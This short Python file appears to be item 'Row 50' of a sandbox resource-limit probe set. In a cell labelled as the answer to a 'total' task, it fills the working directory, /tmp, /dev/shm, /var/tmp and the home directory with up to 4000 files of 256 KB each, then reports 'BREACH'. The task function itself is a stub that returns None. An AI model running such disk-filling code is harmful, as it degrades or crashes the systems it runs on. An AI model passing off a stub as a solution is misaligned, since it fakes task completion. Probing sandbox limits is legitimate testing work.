"""Row 50 · files until the disk is full, and directories until there are no more inodes"""

# %% total-answer
import os

written = 0
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
    try:
        for number in range(4000):
            with open(os.path.join(folder, f"fill-{number}"), "wb") as file:
                written += file.write(bytes(2**18))
    except OSError:
        continue
if written > 200 * 2**20:
    print("BREACH: wrote", written // 2**20, "MB")


def total(prices):
    return None
